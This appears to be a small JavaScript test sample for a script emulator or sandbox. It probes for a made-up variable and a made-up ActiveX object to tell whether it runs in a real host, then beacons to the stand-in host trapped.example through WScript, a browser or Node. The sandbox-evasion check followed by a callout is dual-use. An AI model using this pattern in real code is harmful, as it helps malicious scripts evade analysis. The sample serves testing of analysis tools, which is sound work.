// persona: wsh, browser, node
// reaches: network trapped.example
// names: environment-check
// trick: asks for names that no host has: a sandbox that makes up whatever is asked for gives itself away
var traps = 0;
try { qzxvwy_undefined; } catch (error) { if (error instanceof ReferenceError || error.number) traps++; }
try { new ActiveXObject("Qzxvwy.NoSuchThing"); } catch (error) { traps++; }
if (typeof qzxvwy === "undefined" && traps === 2) {
  if (typeof WScript !== "undefined") {
    var request = new ActiveXObject("MSXML2.XMLHTTP");
    request.open("GET", "http://trapped.example/", false);
    request.send();
  } else if (typeof document !== "undefined") fetch("http://trapped.example/");
  else require("http").get("http://trapped.example/");
}
